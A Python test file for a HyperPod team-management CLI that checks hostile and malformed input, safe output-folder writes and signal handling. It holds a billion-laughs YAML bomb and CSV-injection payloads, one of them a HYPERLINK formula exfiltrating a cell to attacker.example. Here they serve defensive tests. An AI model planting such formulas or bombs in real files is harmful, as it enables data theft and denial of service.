"""Any input, however broken or hostile, gets exit 0 or 2 in bounded time and memory, never a
traceback; synth never deletes what it did not write; interruption leaves nothing behind.

The pipeline examples validate pull requests: one crafted spec must not take a runner down."""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import re
import resource
import signal
import subprocess
import sys
import time
from datetime import date
from decimal import Decimal
from pathlib import Path

import pytest
import regex
import yaml

from hyperpod_teams import cli
from hyperpod_teams.synth import OUTPUT_MARKER
from tests.conftest import QUICKSTART, ROOT, require_module

#: Inputs the fuzz tests tried, by test: printed in the session summary (conftest).
FUZZ_COUNTS: dict[str, int] = {}

BILLION_LAUGHS = "\n".join(
    [
        'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
        *(f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)),
    ]
)


def run(
    *args: str, env: dict | None = None, limit_memory: bool = False, timeout: float = 60, cwd: Path | None = None
) -> subprocess.CompletedProcess:
    """The command in a fresh process; with `limit_memory`, it may use 1 GiB of address space at
    most (a loaded interpreter with pydantic takes about 300 MiB)."""

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))

    return subprocess.run(
        [sys.executable, "-m", "hyperpod_teams", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=timeout,
        preexec_fn=limit if limit_memory else None,
        cwd=cwd,
    )


def in_process(*args: str, capsys) -> tuple[int, str]:
    """The CLI in this process, as `main()` runs it: the exit code and stderr."""
    argv, on_term = sys.argv, signal.getsignal(signal.SIGTERM)
    sys.argv = ["hyperpod-teams", *args]
    try:
        cli.main()
        code = 0
    except SystemExit as exit_:
        code = exit_.code if isinstance(exit_.code, int) else 1
    finally:
        sys.argv = argv
        signal.signal(signal.SIGTERM, on_term)
    return code, capsys.readouterr().err


# --- bounded time and memory --------------------------------------------------------------------


def test_billion_laughs_is_refused_quickly_by_every_command(tmp_path):
    spec = tmp_path / "bomb.yaml"
    spec.write_text(BILLION_LAUGHS)
    assert spec.stat().st_size < 400
    for command in (["validate"], ["report"], ["runbook"], ["synth", "--out", str(tmp_path / "out")]):
        started = time.monotonic()
        result = run(command[0], str(spec), *command[1:], limit_memory=True, timeout=30)
        assert result.returncode == 2, (command, result.stderr)
        assert "aliases are resolved" in result.stderr and "Traceback" not in result.stderr
        assert time.monotonic() - started < 20, command
    assert not (tmp_path / "out").exists()


def test_a_hopelessly_large_spec_is_refused_before_it_is_parsed(tmp_path):
    spec = tmp_path / "huge.yaml"
    data = yaml.safe_load(QUICKSTART.read_text())
    del data["teams"]
    # 300,000 teams, written as YAML's block list (yaml.safe_dump of them: 8 CPU seconds).
    spec.write_text(yaml.safe_dump(data) + "teams:\n" + "".join(f"- name: t{i}\n" for i in range(300_000)))
    assert spec.stat().st_size > 4_000_000
    started = time.monotonic()
    result = run("validate", str(spec), limit_memory=True)
    assert result.returncode == 2 and "more than any spec can need" in result.stderr
    assert time.monotonic() - started < 10


@pytest.mark.parametrize(
    "name, text, fragment",
    [
        ("self.yaml", "a: &a [*a]\n", "refers to a value that contains it"),
        ("deep.json", "[" * 50_000 + "]" * 50_000, "nested deeper than 32 levels"),
        ("deep.yaml", "a: " + "[" * 50_000 + "]" * 50_000, "invalid YAML"),
        ("deep-block.yaml", "".join(" " * i + "- \n" for i in range(40)) + " " * 40 + "- x\n", "nested deeper than 32"),
    ],
)
def test_recursive_and_deeply_nested_documents_are_spec_errors(tmp_path, name, text, fragment):
    spec = tmp_path / name
    spec.write_text(text)
    result = run("validate", str(spec), limit_memory=True)
    assert result.returncode == 2, result.stderr
    assert fragment in result.stderr and "Traceback" not in result.stderr


# --- the fuzz tests ----------------------------------------------------------------------------


def _fuzz(name: str, strategy, check) -> None:
    require_module("hypothesis")
    from hypothesis import HealthCheck, given, settings

    FUZZ_COUNTS[name] = 0

    @settings(max_examples=150, deadline=5000, suppress_health_check=list(HealthCheck), database=None)
    @given(strategy)
    def run_one(value):
        FUZZ_COUNTS[name] += 1
        check(value)

    run_one()


def _exit_0_or_2(path: Path, capsys) -> None:
    for command in ("validate", "report", "runbook"):
        code, err = in_process(command, str(path), capsys=capsys)
        assert code in (0, 2), (command, code, err)
        assert "Traceback" not in err and "internal error" not in err, err


def test_arbitrary_bytes_give_exit_0_or_2(tmp_path, capsys):
    from hypothesis import strategies as st

    def check(raw: bytes) -> None:
        for suffix in (".yaml", ".json"):
            path = tmp_path / f"spec{suffix}"
            path.write_bytes(raw)
            _exit_0_or_2(path, capsys)

    _fuzz("arbitrary bytes", st.binary(max_size=600), check)


def _structures():
    from hypothesis import strategies as st

    scalars = st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=20)
    return st.recursive(
        scalars,
        lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
        max_leaves=30,
    )


def test_arbitrary_yaml_and_json_structures_give_exit_0_or_2(tmp_path, capsys):
    def check(value) -> None:
        (tmp_path / "spec.json").write_text(json.dumps(value))
        (tmp_path / "spec.yaml").write_text(yaml.safe_dump(value))
        _exit_0_or_2(tmp_path / "spec.json", capsys)
        _exit_0_or_2(tmp_path / "spec.yaml", capsys)

    _fuzz("arbitrary structures", _structures(), check)


def _paths(data, prefix=()):
    yield prefix
    if isinstance(data, dict):
        for key, value in data.items():
            yield from _paths(value, (*prefix, key))
    elif isinstance(data, list):
        for index, value in enumerate(data):
            yield from _paths(value, (*prefix, index))


def test_the_quickstart_with_any_field_replaced_gives_exit_0_or_2(tmp_path, capsys):
    from hypothesis import strategies as st

    base = yaml.safe_load(QUICKSTART.read_text())
    paths = [p for p in _paths(base) if p]

    def check(change) -> None:
        path, value = change
        data = json.loads(json.dumps(base))
        node = data
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = value
        (tmp_path / "spec.yaml").write_text(yaml.safe_dump(data))
        _exit_0_or_2(tmp_path / "spec.yaml", capsys)

    _fuzz("quickstart with a field replaced", st.tuples(st.sampled_from(paths), _structures()), check)


# --- the output folder ------------------------------------------------------------------------


@pytest.fixture
def project(tmp_path) -> Path:
    """A user's project folder: the spec, sources, notes."""
    (tmp_path / "teams.yaml").write_text(QUICKSTART.read_text())
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "app.py").write_text("print('mine')\n")
    (tmp_path / "NOTES.md").write_text("notes\n")
    return tmp_path


def _snapshot(folder: Path) -> dict[str, bytes]:
    return {str(p.relative_to(folder)): p.read_bytes() for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.mark.parametrize("out", [".", "src"])
def test_synth_refuses_a_folder_it_did_not_write_and_touches_nothing(project, out):
    before = _snapshot(project)
    result = run("synth", str(project / "teams.yaml"), "--out", str(project / out))
    assert result.returncode == 2
    assert "refusing to write into" in result.stderr and str((project / out).resolve()) in result.stderr
    assert "Traceback" not in result.stderr
    assert _snapshot(project) == before
    assert sorted(p.name for p in project.iterdir()) == ["NOTES.md", "src", "teams.yaml"]


def test_synth_refuses_cdktf_outdir_naming_a_folder_it_did_not_write(project):
    before = _snapshot(project)
    result = run("synth", str(project / "teams.yaml"), env={**os.environ, "CDKTF_OUTDIR": str(project)})
    assert result.returncode == 2 and "refusing to write into" in result.stderr
    assert _snapshot(project) == before


def test_synth_writes_into_an_empty_folder_and_replaces_its_own_output(project):
    out = project / "out"
    out.mkdir()
    assert run("synth", str(project / "teams.yaml"), "--out", str(out)).returncode == 0
    assert (out / OUTPUT_MARKER).is_file() and (out / "manifest.json").is_file()
    assert run("synth", str(project / "teams.yaml"), "--out", str(out)).returncode == 0


def test_synth_keeps_everything_of_the_users_in_its_own_output_folder(project):
    """The reproduction of #34: `synth --out .` in an empty folder, `git init` and a commit
    there, a plan saved where `report --help` suggests, an override file; synth again. Only the
    files synth wrote are rewritten; everything else stays byte for byte."""
    out = project / "deploy"
    out.mkdir()
    assert run("synth", str(project / "teams.yaml"), "--out", ".", cwd=out).returncode == 0
    (out / "teams.yaml").write_text(QUICKSTART.read_text())  # the spec moves in with the output
    subprocess.run(["git", "init", "-q"], cwd=out, check=True)
    subprocess.run(["git", "add", "-A"], cwd=out, check=True)
    env = {
        **os.environ,
        "GIT_AUTHOR_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_COMMITTER_EMAIL": "t@t",
    }
    subprocess.run(["git", "commit", "-qm", "first synth"], cwd=out, check=True, env=env)
    (out / "README.md").write_text("# our deployment\n")
    stack = out / "stacks" / "acme-cluster"
    (stack / "plan.json").write_text('{"format_version": "1.2"}')
    (stack / "override.tf").write_text('terraform { required_version = ">= 1.11" }\n')
    (stack / ".terraform").mkdir()
    (stack / ".terraform" / "terraform.tfstate").write_text("{}")
    mine = {name: data for name, data in _snapshot(out).items() if not _written_by_synth_here(out, name)}
    assert {"teams.yaml", "README.md", "stacks/acme-cluster/plan.json", "stacks/acme-cluster/override.tf"} <= set(mine)
    assert any(name.startswith(".git/") for name in mine)

    data = yaml.safe_load(QUICKSTART.read_text())
    data["teams"] = data["teams"][:2]  # a team removed: its stacks go, and only its stacks
    (out / "teams.yaml").write_text(yaml.safe_dump(data))
    mine["teams.yaml"] = (out / "teams.yaml").read_bytes()
    result = run("synth", "teams.yaml", "--out", ".", cwd=out)
    assert result.returncode == 0, result.stderr
    after = _snapshot(out)
    assert {name: after.get(name) for name in mine} == mine, "synth changed or removed a file it did not write"
    assert not (out / "stacks" / "acme-team-research").exists()
    assert json.loads((out / "manifest.json").read_text())["stacks"].keys() >= {"acme-team-nlp", "acme-cluster"}
    git = subprocess.run(["git", "status", "--porcelain"], cwd=out, capture_output=True, text=True, check=True)
    assert " D teams.yaml" not in git.stdout and "fatal" not in git.stderr


def _written_by_synth_here(out: Path, name: str) -> bool:
    return name == OUTPUT_MARKER or name in (out / OUTPUT_MARKER).read_text().splitlines()


def test_synth_refuses_to_write_over_a_file_it_did_not_write_and_moves_nothing(project):
    out = project / "out"
    data = yaml.safe_load(QUICKSTART.read_text())
    two_teams = project / "two-teams.yaml"
    two_teams.write_text(yaml.safe_dump({**data, "teams": data["teams"][:2]}))
    assert run("synth", str(two_teams), "--out", str(out)).returncode == 0
    theirs = out / "stacks" / "acme-team-research" / "cdk.tf.json"  # a file of the user's where synth will write
    theirs.parent.mkdir(parents=True)
    theirs.write_text("mine")
    _refused_touching_nothing(
        project, "synth", str(project / "teams.yaml"), "--out", str(out), names="stacks/acme-team-research/cdk.tf.json"
    )


def _refused_touching_nothing(folder: Path, *command: str, names: str) -> None:
    """The command exits 2 with a message that names `names`, and no file under `folder` changed."""
    before = _snapshot(folder)
    result = run(*command)
    assert result.returncode == 2, result.stderr
    assert names in result.stderr and "Traceback" not in result.stderr
    assert _snapshot(folder) == before


def test_a_marker_naming_files_outside_the_folder_removes_nothing_there(project):
    out = project / "out"
    assert run("synth", str(project / "teams.yaml"), "--out", str(out)).returncode == 0
    marker = out / OUTPUT_MARKER
    marker.write_text(marker.read_text() + "../NOTES.md\n" + f"{project / 'src' / 'app.py'}\n")
    assert run("synth", str(project / "teams.yaml"), "--out", str(out)).returncode == 0
    assert (project / "NOTES.md").read_text() == "notes\n" and (project / "src" / "app.py").exists()


def test_synth_replaces_the_output_of_a_version_before_the_marker(project):
    out = project / "cdktf.out"
    (out / "stacks" / "acme-old").mkdir(parents=True)
    (out / "manifest.json").write_text(json.dumps({"version": "0.21.0", "stacks": {}}))
    result = run("synth", str(project / "teams.yaml"), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert not (out / "stacks" / "acme-old").exists()


@pytest.mark.parametrize(
    "out, fragment",
    [("NOTES.md/out", "is a file, not a folder"), ("NOTES.md", "is a file"), ("/proc/hyperpod-teams/out", "cannot")],
)
def test_an_output_folder_that_cannot_be_written_is_a_user_error(project, out, fragment):
    result = run("synth", str(project / "teams.yaml"), "--out", out if out.startswith("/") else str(project / out))
    assert result.returncode == 2, result.stderr
    assert fragment in result.stderr and "Traceback" not in result.stderr and "bug" not in result.stderr


@pytest.mark.parametrize("command", ["report", "runbook"])
def test_report_and_runbook_into_a_missing_folder_is_a_user_error(project, command):
    result = run(command, str(project / "teams.yaml"), "--out", str(project / "missing" / "out.md"))
    assert result.returncode == 2
    assert "cannot write" in result.stderr and "bug" not in result.stderr


def test_a_spec_that_is_not_utf8_is_a_user_error(tmp_path):
    spec = tmp_path / "teams.yaml"
    spec.write_bytes(QUICKSTART.read_text().replace("acme", "acmé").encode("latin-1"))
    result = run("validate", str(spec))
    assert result.returncode == 2 and "not UTF-8" in result.stderr


def test_a_byte_order_mark_is_accepted_in_json_as_in_yaml(tmp_path):
    data = yaml.safe_load(QUICKSTART.read_text())
    (tmp_path / "teams.json").write_bytes(b"\xef\xbb\xbf" + json.dumps(data).encode())
    (tmp_path / "teams.yaml").write_bytes(b"\xef\xbb\xbf" + QUICKSTART.read_bytes())
    assert run("validate", str(tmp_path / "teams.json")).returncode == 0
    assert run("validate", str(tmp_path / "teams.yaml")).returncode == 0


# --- interruption -----------------------------------------------------------------------------


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_interrupting_synth_exits_130_or_143_with_one_line_and_leaves_nothing(tmp_path, sig):
    out = tmp_path / "out"
    with subprocess.Popen(
        [sys.executable, "-m", "hyperpod_teams", "synth", str(QUICKSTART), "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        # As from a terminal: a test run started in the background of a shell ignores SIGINT,
        # and its children would inherit that.
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    ) as process:
        assert process.stderr is not None
        for line in process.stderr:  # wait until the build is under way
            if line.startswith("Building the stacks"):
                break
        assert list(tmp_path.glob(".out.staging-*")), "no staging folder while building"
        process.send_signal(sig)
        rest = process.stderr.read()
        process.wait(timeout=60)
    assert process.returncode == (130 if sig == signal.SIGINT else 143)
    assert [line for line in rest.splitlines() if line.strip()] == ["interrupted"]
    assert sorted(p.name for p in tmp_path.iterdir()) == [], "staging folder left behind"


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_a_signal_while_the_new_output_moves_in_waits_until_it_is_whole(tmp_path, sig):
    """The move of the new output into the folder is file by file: a signal arriving mid-way is
    held until every file is in, then acted on (the handler the process had runs)."""
    from hyperpod_teams.synth import signals_deferred

    moved: list[int] = []
    seen: list[int] = []
    previous = signal.signal(sig, lambda signum, frame: seen.append(len(moved)))
    try:
        with signals_deferred():
            for index in range(50):
                if index == 10:
                    os.kill(os.getpid(), sig)
                moved.append(index)
                time.sleep(0.001)
        assert seen == [50]  # after the last file, not at the tenth
    finally:
        signal.signal(sig, previous)


def test_a_killed_runs_staging_folder_is_cleaned_and_moved_output_put_back(tmp_path):
    out = tmp_path / "out"
    stale = tmp_path / ".out.staging-999999-abc"  # no process 999999 runs here
    (stale / "stacks").mkdir(parents=True)
    moved = tmp_path / ".out.previous-xyz"  # killed between its two renames: out is gone
    moved.mkdir()
    (moved / OUTPUT_MARKER).write_text("earlier synth")
    (moved / "stacks" / "x" / ".terraform").mkdir(parents=True)
    result = run("synth", str(QUICKSTART), "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out"]


@pytest.mark.parametrize("umask, mode", [(0o022, 0o755), (0o077, 0o700)])
def test_the_output_folder_follows_the_umask(tmp_path, umask, mode):
    out = tmp_path / "out"
    result = subprocess.run(
        [
            "sh",
            "-c",
            f'umask {umask:03o} && exec "$0" -m hyperpod_teams synth "$1" --out "$2"',
            sys.executable,
            str(QUICKSTART),
            str(out),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    assert out.stat().st_mode & 0o777 == mode


# --- messages ---------------------------------------------------------------------------------


def test_an_unknown_plugin_setting_gets_the_plugins_settings_as_hints(quickstart_data):
    from hyperpod_teams.spec import SpecError, validate_spec

    quickstart_data["identity"]["settings"] = {"tenant_idd": "x"}
    with pytest.raises(SpecError) as raised:
        validate_spec(quickstart_data)
    (problem,) = raised.value.problems
    assert problem.hint and "did you mean 'tenant_id'" in problem.hint and "teams" not in problem.hint


def test_a_duplicate_instance_group_names_both_spellings(quickstart_data):
    from hyperpod_teams.spec import SpecError, validate_spec

    groups = quickstart_data["cluster"]["instance_groups"]
    groups.append({**groups[0], "name": groups[0]["name"].upper()})
    with pytest.raises(SpecError) as raised:
        validate_spec(quickstart_data)
    message = " ".join(p.message for p in raised.value.problems)
    assert repr(groups[0]["name"]) in message and repr(groups[0]["name"].upper()) in message


@pytest.mark.parametrize("text, kind", [("", "empty"), ("- a\n- b\n", "a list"), ("just text\n", "a text")])
def test_a_spec_that_is_not_a_mapping_says_what_a_spec_is(tmp_path, text, kind):
    spec = tmp_path / "teams.yaml"
    spec.write_text(text)
    result = run("validate", str(spec))
    assert result.returncode == 2
    assert (
        f"the spec is {kind}; a spec is a mapping of version, organization, identity, cluster and teams"
        in result.stderr
    )


# --- the test command ---------------------------------------------------------------------------


def test_the_test_command_leaves_the_users_environment_alone():
    """`make test` installs the dev extra and the tests' plugin into a virtualenv of its own,
    never into `.venv`, which `make quickstart` (the user's) uses."""
    dry_run = subprocess.run(
        ["make", "-n", "-B", "test"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=30,
        env={**os.environ, "HYPERPOD_TEAMS_AWS_PROVIDER_DIR": "/nowhere"},
    )
    assert dry_run.returncode == 0, dry_run.stderr
    installs = [line for line in dry_run.stdout.splitlines() if "pip install" in line or "-m venv" in line]
    assert installs, dry_run.stdout
    assert all(".venv/" not in line and ".venv " not in line for line in installs), installs
    assert any("third_party_plugin" in line for line in installs)


# --- --out never overwrites an input -------------------------------------------------------------


#: The quickstart's instance types priced: a cost given with --cost is divided among instance
#: types by their worth, and its CPU nodes have no accelerators to weigh them by.
QUICKSTART_PRICES = "cost:\n  instance_prices_usd: {ml.p5.48xlarge: 98.32, ml.c5.4xlarge: 0.82}\n"


def _usage_report(folder: Path) -> Path:
    """A summary report for the quickstart's teams (written like HyperPod's generator writes one);
    the project's spec gets its instance types priced."""
    spec = folder / "teams.yaml"
    if spec.exists() and spec.read_text() == QUICKSTART.read_text():
        spec.write_text(spec.read_text() + QUICKSTART_PRICES)
    path = folder / "summary-report.csv"
    path.write_text(
        "Amazon SageMaker HyperPod\nCluster Name: ml-shared\nReport Type: Summary Utilization Report\n"
        "Report Date Generated: 2026-11-03\nReport Date Range (UTC): 2026-11-01 to 2026-11-01\n"
        ",,,Instance,NeuronCore,,,GPU,,,vCPU,,\n"
        "Date,Namespace,Team,Type,Total utilization (hours),Allocated utilization (hours),"
        "Borrowed utilization (hours),Total utilization (hours),Allocated utilization (hours),"
        "Borrowed utilization (hours),Total utilization (hours),Allocated utilization (hours),"
        "Borrowed utilization (hours)\n"
        "2026-11-01,hyperpod-ns-nlp,nlp,ml.p5.48xlarge,0.00,0.00,0.00,96.00,96.00,0.00,10.00,10.00,0.00\n"
    )
    return path


@pytest.mark.parametrize(
    "command, out_is",
    [
        ("report", "spec"),
        ("runbook", "spec"),
        ("runbook", "link to the spec"),
        ("chargeback", "spec"),
        ("chargeback", "usage report"),
        ("chargeback", "link to the usage report"),
    ],
)
def test_out_naming_an_input_of_the_command_is_refused_and_nothing_is_touched(project, command, out_is):
    usage = _usage_report(project)
    target = usage if "usage" in out_is else project / "teams.yaml"
    out = target
    if out_is.startswith("link"):
        out = project / "out.md"
        out.symlink_to(target)
    extra = ["--usage", str(usage), "--cost", "1000"] if command == "chargeback" else []
    _refused_touching_nothing(
        project, command, str(project / "teams.yaml"), *extra, "--out", str(out), names="an input of this command"
    )


def test_stacks_never_writes_into_the_output_it_compares_against(project):
    out = project / "cdktf.out"
    assert run("synth", str(project / "teams.yaml"), "--out", str(out)).returncode == 0
    before = _snapshot(out)
    # --out defaults to cdktf.out, the very folder given as the baseline.
    result = subprocess.run(
        [sys.executable, "-m", "hyperpod_teams", "stacks", "teams.yaml", "--changed-since", "cdktf.out"],
        capture_output=True,
        text=True,
        cwd=project,
        timeout=120,
    )
    assert result.returncode == 2, result.stderr
    assert "--changed-since compares against" in result.stderr and "--out cdktf.new" in result.stderr
    assert _snapshot(out) == before


# --- what a spreadsheet and a Markdown renderer make of the outputs -----------------------------

#: Display names as a hostile spec author would write them (OWASP's CSV-injection examples).
HOSTILE_NAMES = [
    '=HYPERLINK("http://attacker.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def _hostile_chargeback(project: Path, output_format: str) -> str:
    data = yaml.safe_load((project / "teams.yaml").read_text() + QUICKSTART_PRICES)
    for team, name in zip(data["teams"], HOSTILE_NAMES, strict=False):
        team["display_name"] = name
    (project / "teams.yaml").write_text(yaml.safe_dump(data))
    usage = _usage_report(project)
    result = run(
        "chargeback", str(project / "teams.yaml"), "--usage", str(usage), "--cost", "1000", "--format", output_format
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_the_chargeback_csv_opened_in_a_spreadsheet_holds_no_formula(project, tmp_path):
    """LibreOffice Calc (Debian's, headless) imports the CSV with formula evaluation on, as a
    spreadsheet user's double-click does, and writes it as flat ODS: no cell is a formula, every
    display name reads as the text it is, amounts stay numbers."""
    import shutil
    import xml.etree.ElementTree as ElementTree

    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("LibreOffice (soffice) must be installed under CI (.ci/run installs it)")
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    csv_path = tmp_path / "chargeback.csv"
    csv_path.write_text(_hostile_chargeback(project, "csv"))
    # Filter options: comma, double quote, UTF-8, from line 1, ..., token 13 "evaluate formulas" on.
    converted = subprocess.run(
        [
            soffice,
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true",
            "--convert-to",
            "fods",
            "--outdir",
            str(tmp_path),
            str(csv_path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    assert converted.returncode == 0, converted.stderr
    sheet = ElementTree.parse(tmp_path / "chargeback.fods")
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    cells = list(sheet.iter(f"{{{table}}}table-cell"))
    assert cells, "LibreOffice read no cell"
    assert not [c for c in cells if c.get(f"{{{table}}}formula")], "a cell became a formula"
    shown = ["".join(p.itertext()) for c in cells for p in c.iter(f"{{{text}}}p")]
    for name in HOSTILE_NAMES[:3]:
        assert f"'{name}" in shown, (name, shown[:20])
    amounts = [c for c in cells if c.get(f"{{{office}}}value-type") == "float"]
    assert amounts, "the amounts are no longer numbers"


def test_a_spreadsheet_cell_is_neutralised_only_when_it_would_start_a_formula():
    from hyperpod_teams.document import spreadsheet_text

    assert [spreadsheet_text(n)[0] for n in HOSTILE_NAMES] == ["'"] * len(HOSTILE_NAMES)
    assert spreadsheet_text("Natural language") == "Natural language"
    assert spreadsheet_text("nlp = team") == "nlp = team"


# --- bounded inputs of chargeback ------------------------------------------------------------------


def _chargeback(project: Path, *args: str, timeout: float = 60, limit_memory: bool = False):
    return run("chargeback", str(project / "teams.yaml"), *args, timeout=timeout, limit_memory=limit_memory)


def _special_file(special: str, fifo: Path) -> str:
    """/dev/zero as it is, or a FIFO with no writer made at `fifo`: the path to give a command."""
    if special == "fifo":
        os.mkfifo(fifo)
        return str(fifo)
    return special


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_device_or_a_fifo_as_usage_report_is_refused_before_reading(project, special):
    """`--usage /dev/zero` grew to 24 GB and was killed by the OOM killer; a FIFO with no writer
    would block forever."""
    path = _special_file(special, project / "usage.csv")
    started = time.monotonic()
    result = _chargeback(project, "--usage", path, "--cost", "1000", timeout=20, limit_memory=True)
    assert result.returncode == 2, result.stderr
    assert "not a regular file" in result.stderr and time.monotonic() - started < 15


@pytest.mark.parametrize("special", ["/dev/zero", "fifo"])
def test_a_device_or_a_fifo_as_spec_is_refused_before_reading(tmp_path, special):
    path = _special_file(special, tmp_path / "teams.yaml")
    result = run("validate", path, timeout=20)
    assert result.returncode == 2, result.stderr
    assert "not a regular file" in result.stderr


def test_a_usage_report_larger_than_any_is_refused_up_front(project):
    from hyperpod_teams.usage_report import MAX_REPORT_BYTES

    big = project / "usage.csv"
    with big.open("wb") as handle:
        handle.truncate(MAX_REPORT_BYTES + 1)  # sparse: no time spent writing it
    result = _chargeback(project, "--usage", str(big), "--cost", "1000", limit_memory=True)
    assert result.returncode == 2
    assert f"at most {MAX_REPORT_BYTES:,}" in result.stderr


def test_a_usage_cell_over_128_kib_is_a_user_error_naming_the_line(project):
    usage = _usage_report(project)
    usage.write_text(usage.read_text() + "2026-11-01,hyperpod-ns-nlp," + "x" * (130 * 1024) + "\n")
    result = _chargeback(project, "--usage", str(usage), "--cost", "1000")
    assert result.returncode == 2, result.stderr
    assert "line 9" in result.stderr and "characters on one line" in result.stderr


@pytest.mark.parametrize(
    "cost", ["1e30", "1e26", "1e15", "1000000000000000", "1,2,3", "182.450,17", "Infinity", "NaN", "-5"]
)
def test_a_cost_that_is_no_amount_of_usd_is_a_user_error(project, cost):
    usage = _usage_report(project)
    result = _chargeback(project, "--usage", str(usage), "--cost", cost)
    assert result.returncode == 2, result.stderr
    assert "bug" not in result.stderr and "Traceback" not in result.stderr


def test_a_cost_with_thousands_separators_is_read_as_written(project):
    usage = _usage_report(project)
    result = _chargeback(project, "--usage", str(usage), "--cost", "182,450.17", "--format", "csv")
    assert result.returncode == 0, result.stderr
    assert sum(Decimal(row["amount_usd"]) for row in csv.DictReader(io.StringIO(result.stdout))) == Decimal("182450.17")


def _large_cost_export(path: Path, megabytes: int) -> None:
    """A legacy CUR export of `megabytes` MB: lines of other days, and one of the period."""
    header = (
        "lineItem/LineItemType,lineItem/UsageStartDate,lineItem/UsageEndDate,lineItem/UnblendedCost,"
        "resourceTags/user:hyperpod-teams:platform\n"
    )
    line = "Usage,2026-10-15T00:00:00Z,2026-10-15T01:00:00Z,1.0000000000,shared\n"
    with path.open("w") as handle:
        handle.write(header)
        handle.write("Usage,2026-11-01T00:00:00Z,2026-11-01T01:00:00Z,1000.00,shared\n")
        # Another workload's last hour of the day: the export reaches the period's end.
        handle.write("Usage,2026-11-01T23:00:00Z,2026-11-02T00:00:00Z,1.00,\n")
        block = line * 20_000
        for _ in range(megabytes * 1024 * 1024 // len(block)):
            handle.write(block)


def test_a_200_mb_cost_export_streams_in_bounded_memory(project, tmp_path):
    """Read line by line: under 1 GiB of address space (the interpreter with pydantic takes about
    300 MiB) a 200 MB export is read to the end (docs/architecture.md gives the time measured)."""
    export = tmp_path / "cur.csv"
    _large_cost_export(export, 200)
    usage = _usage_report(project)
    result = _chargeback(project, "--usage", str(usage), "--cost-from", str(export), limit_memory=True, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "1,000.00" in result.stdout or "1000.00" in result.stdout


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGTERM], ids=["ctrl-c", "sigterm"])
def test_interrupting_chargeback_on_a_large_export_exits_130_or_143_at_once(project, tmp_path, sig):
    export = tmp_path / "cur.csv"
    _large_cost_export(export, 200)
    usage = _usage_report(project)
    process = subprocess.Popen(
        [sys.executable, "-m", "hyperpod_teams", "chargeback", str(project / "teams.yaml"), "--usage", str(usage),
         "--cost-from", str(export)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL),
    )  # fmt: skip
    time.sleep(2.5)  # loaded and reading
    assert process.poll() is None, process.communicate()
    process.send_signal(sig)
    sent = time.monotonic()
    _, err = process.communicate(timeout=30)
    assert process.returncode == (130 if sig == signal.SIGINT else 143), err
    assert time.monotonic() - sent < 5
    assert err.strip().splitlines()[-1] == "interrupted"


# --- numbers that are no amounts, and other input that is the user's, not a bug -------------------


@pytest.mark.parametrize("amount", [".inf", "1e400", "-.inf", ".nan", "1e15"])
def test_a_budget_that_is_no_amount_is_refused_naming_the_field(tmp_path, amount):
    text = QUICKSTART.read_text().replace("monthly_limit_usd: 25000", f"monthly_limit_usd: {amount}", 1)
    assert text != QUICKSTART.read_text()
    (tmp_path / "teams.yaml").write_text(text)
    result = run("validate", str(tmp_path / "teams.yaml"))
    assert result.returncode == 2, result.stderr
    assert "monthly_limit_usd" in result.stderr and "bug" not in result.stderr


def test_a_json_budget_of_infinity_is_refused(tmp_path):
    data = yaml.safe_load(QUICKSTART.read_text())
    data["teams"][0]["budget"]["monthly_limit_usd"] = float("inf")
    (tmp_path / "teams.json").write_text(json.dumps(data))  # json writes Infinity, which json reads back
    assert "Infinity" in (tmp_path / "teams.json").read_text()
    result = run("validate", str(tmp_path / "teams.json"))
    assert result.returncode == 2 and "monthly_limit_usd" in result.stderr, result.stderr


@pytest.mark.parametrize("suffix", [".yaml", ".json"])
def test_a_number_of_thousands_of_digits_is_a_user_error(tmp_path, suffix):
    data = yaml.safe_load(QUICKSTART.read_text())
    text = json.dumps(data).replace('"account_id": "111122223333"', '"account_id": ' + "9" * 5000)
    assert "9" * 5000 in text
    (tmp_path / f"teams{suffix}").write_text(text)
    result = run("validate", str(tmp_path / f"teams{suffix}"))
    assert result.returncode == 2, result.stderr
    assert "4,300 digits" in result.stderr and "bug" not in result.stderr


